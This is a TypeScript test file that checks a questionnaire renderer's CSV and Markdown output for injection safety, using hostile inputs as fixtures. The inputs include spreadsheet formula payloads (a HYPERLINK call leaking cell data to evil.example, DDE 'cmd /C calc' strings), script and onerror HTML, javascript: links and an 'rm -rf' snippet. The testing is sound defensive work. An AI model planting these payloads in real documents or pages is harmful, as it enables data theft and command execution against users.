import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Question } from '#domain/model.ts';
import { listQuestions } from '#domain/model.ts';
import { renderQuestionnaire } from '#render/questions/questionnaire.ts';
import { renderQuestionsCsv } from '#render/questions/questions.ts';
import { loadShippedModel } from '#app/model/shipped-model.ts';
import { anyText } from '../../support/hostile/any-text.ts';
import { makeOneElementModel } from '../../support/model/make-model.ts';
import { readCsv } from '../report/csv/read-csv.ts';

const shipped = await loadShippedModel();

/** Returns a model of one question with the same hostile text in every field. */
function makeModelWith(text: string, more: Partial<Question> = {}) {
  const base = makeOneElementModel([{ id: 'p', questions: [{ id: 'q' }] }]);
  const [practice] = base.practices;
  const [question] = listQuestions(base);
  if (practice === undefined || question === undefined) throw new Error('The model has no question.');
  const hostile: Question = {
    ...question,
    ask: { leader: text, seller: text },
    why: text,
    levels: [0, 1, 2, 3, 4].map(() => ({ label: text, means: text })),
    probe: text,
    evidence: [{ kind: 'artifact', what: text }],
    redFlags: [text],
    ...more,
  };
  return {
    ...base,
    title: text,
    elements: base.elements.map((element) => ({ ...element, name: text, asks: text, about: text })),
    practices: [{ ...practice, name: text, about: text, questions: [hostile] }],
    scale: { ...base.scale, instruction: text },
    terms: [{ id: 't', term: text, forms: [text], counts: text, doesNotCount: text }],
    notApplicableReasons: [{ id: 'out-of-scope', means: text }],
    messages: {
      ...shipped.messages,
      'questionnaire.notes': text,
      'help.why': text,
      'opening.question': text,
      'opening.again': text,
      'closing.question': text,
    },
  };
}

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Error: click")',
  '@SUM(A1:A9)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '",=1+1,"',
  'fine\r\n=1+1',
];

const startsFormula = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

describe('renderQuestionsCsv', () => {
  it.each(formulas)('makes no formula of %j', (text) => {
    const model = makeModelWith(text);
    const [header = [], ...rows] = readCsv(renderQuestionsCsv(model, listQuestions(model)));
    expect(rows).toHaveLength(1);
    for (const cells of rows) {
      expect(cells).toHaveLength(header.length);
      expect(cells.filter((cell) => startsFormula.test(cell))).toEqual([]);
    }
  });

  it('keeps any text in its own cell', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', '=', "'", ' ', 'é', '\t') }),
        (text) => {
          const model = makeModelWith(text);
          const [header = [], row = [], ...more] = readCsv(renderQuestionsCsv(model, listQuestions(model)));
          expect(more).toEqual([]);
          expect(row).toHaveLength(header.length);
          expect(row.filter((cell) => startsFormula.test(cell))).toEqual([]);
          expect(
            new Set(
              ['ask.leader', 'ask.seller', 'level0', 'level4', 'why'].map(
                (name) => row[header.indexOf(name)],
              ),
            ).size,
          ).toBe(1);
        },
      ),
    );
  });
});

const markup = [
  ['HTML', '<img src=x onerror=alert(1)><script>alert(1)</script>', /(?<!\\)<(img|script)/],
  ['a comment', '<!-- hidden', /(?<!\\)<!--/],
  ['a link', '[click](javascript:alert(1))', /(?<!\\)\[click(?<!\\)\]\(/],
  ['an image', '![x](http://evil.example/pixel.png)', /!(?<!\\)\[x\]/],
  ['an automatic link', 'Go to https://evil.example now', /https:\/\//],
  ['another automatic link', 'Go to www.evil.example now', /www\.evil/],
  ['an address', '<mailto:a@evil.example>', /(?<!\\)<mailto/],
  ['a mention', 'Ask @everyone', /@everyone/],
  ['a heading', '# Big\n## Bigger', /^#+ Big/m],
  ['a list', '- [x] done\n* more\n+ more\n1. more', /^([-*+] \[x\]|[-*+] more|1\. more)/m],
  ['code', '`rm -rf` and ```\nfence', /(?<!\\)`rm|^```/m],
  ['emphasis', '**bold** _it_ ~~gone~~', /(?<!\\)\*(?<!\\)\*bold|(?<!\\)_it|(?<!\\)~~gone/],
  ['a table', 'a | b\n--- | ---', /(?<!\\)\| b|^--- \|/m],
  ['a quotation and a rule', '> quoted\n\n---\n', /^> quoted|^---$/m],
  ['a rule alone', '---', /^---$/m],
  ['an empty list entry', '-', /^-$/m],
  ['a title by underline', 'Title\n=====', /^=====$/m],
  ['entities', '&lt;b&gt; &#60;', /&lt;b|&#60;/],
  ['a formula', '$x$ $$y$$', /(?<!\\)\$x|(?<!\\)\$\$y/],
  ['a footnote', '[^1]: note', /(?<!\\)\[\^1/],
  ['control characters', 'a\u001b[31mred\u0007\u202eback', /(?![\n])\p{Cc}|\u202e/u],
  ['a line separator', 'a\u2028# b', /\u2028/],
] as const;

describe('renderQuestionnaire', () => {
  it('speaks the language of the model', async () => {
    const german = await loadShippedModel('de');
    const page = renderQuestionnaire(german, listQuestions(german), undefined);
    expect(page).toContain('- [ ] weiß nicht');
    expect(
      page.match(/don't know|Why it|would prove|Before any|quick set|Who knows|about [0-9]|At the end/g),
    ).toBeNull();
  });

  it.each(markup)('escapes %s in a custom model', (_name, text, live) => {
    const model = makeModelWith(text, { ask: { leader: text, seller: text } });
    for (const role of [undefined, 'leader', 'seller'] as const) {
      const page = renderQuestionnaire(model, listQuestions(model), role);
      expect(page).not.toMatch(live);
      expect(page).toContain('#### 1. ');
    }
  });

  it('has the same number of lines for any text', () => {
    const countLines = (text: string): number => {
      const model = makeModelWith(text);
      return renderQuestionnaire(model, listQuestions(model), undefined).split(/\r\n|[\n\r\u2028\u2029]/)
        .length;
    };
    const lines = countLines('plain');
    fc.assert(
      fc.property(anyText({ maxLength: 40 }), (text) => {
        expect(countLines(text)).toBe(lines);
      }),
    );
  });
});
